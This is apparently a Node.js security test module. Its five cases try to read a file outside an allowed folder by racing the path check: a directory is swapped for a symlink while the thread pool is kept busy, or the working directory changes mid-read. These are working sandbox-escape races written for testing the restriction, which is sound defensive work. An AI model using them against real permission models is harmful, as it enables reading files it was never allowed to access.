'use strict';
// Paths that lead elsewhere by the time the call is carried out. The attacker may read and write one folder.
const fs = require('fs');
const path = require('path');

/** Keeps the threads busy that carry out calls of `fs`. */
function occupy() {
  for (let i = 0; i < 6; i++) require('crypto').pbkdf2('a', 'b', 60_000, 64, 'sha512', () => {});
}

/** A path through a directory that is a link to the root of the folder when `swap` has run. */
function climbing({ allowed, base, secret }) {
  const root = path.dirname(allowed);
  const inner = path.relative(base, secret);
  const at = path.join(allowed, 'd1');
  fs.mkdirSync(path.join(at, 'd2', 'd3'), { recursive: true });
  fs.mkdirSync(path.dirname(path.join(at, inner)), { recursive: true });
  fs.writeFileSync(path.join(at, inner), 'harmless');
  return {
    file: `${at}/d2/d3/../../${inner}`,
    swap() {
      fs.renameSync(`${at}/d2/d3`, `${at}/d2/old`);
      fs.symlinkSync(root, `${at}/d2/d3`);
    },
  };
}

module.exports = [
  {
    name: 'readFile through a directory that becomes a link', wants: 'read',
    run: (ctx) => new Promise((resolve, reject) => {
      const { file, swap } = climbing(ctx);
      occupy();
      fs.readFile(file, (error, value) => (error ? reject(error) : resolve(String(value))));
      swap();
    }),
  },
  {
    name: 'promises.readFile through a directory that becomes a link', wants: 'read',
    run: async (ctx) => {
      const { file, swap } = climbing(ctx);
      occupy();
      const reading = fs.promises.readFile(file, 'utf8');
      swap();
      return reading;
    },
  },
  {
    name: 'a relative path and another working directory', wants: 'read',
    async run({ allowed, secretDir }) {
      const before = process.cwd();
      fs.writeFileSync(path.join(allowed, 'secret.txt'), 'harmless');
      process.chdir(allowed);
      try {
        occupy();
        const reading = fs.promises.readFile('secret.txt', 'utf8');
        process.chdir(secretDir);
        return await reading;
      } finally {
        process.chdir(before);
      }
    },
  },
  {
    name: 'a stream through a directory that becomes a link', wants: 'read',
    run: (ctx) => new Promise((resolve, reject) => {
      const { file, swap } = climbing(ctx);
      occupy();
      fs.createReadStream(file).on('data', (bytes) => resolve(String(bytes))).on('error', reject);
      swap();
    }),
  },
  {
    name: 'copyFile through a directory that becomes a link', wants: 'read',
    run: (ctx) => new Promise((resolve, reject) => {
      const { file, swap } = climbing(ctx);
      const copy = path.join(ctx.allowed, 'copy');
      occupy();
      fs.copyFile(file, copy, (error) => (error ? reject(error) : resolve(fs.readFileSync(copy, 'utf8'))));
      swap();
    }),
  },
];
